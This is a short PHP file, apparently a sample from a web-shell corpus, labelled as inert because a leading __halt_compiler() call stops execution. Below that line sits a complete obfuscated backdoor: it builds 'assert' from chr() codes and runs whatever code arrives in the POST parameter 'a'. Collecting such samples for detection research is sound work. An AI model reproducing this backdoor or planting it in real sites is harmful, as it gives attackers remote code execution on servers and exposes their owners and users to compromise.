<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$azi = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);
$azi(@$_POST['a']);
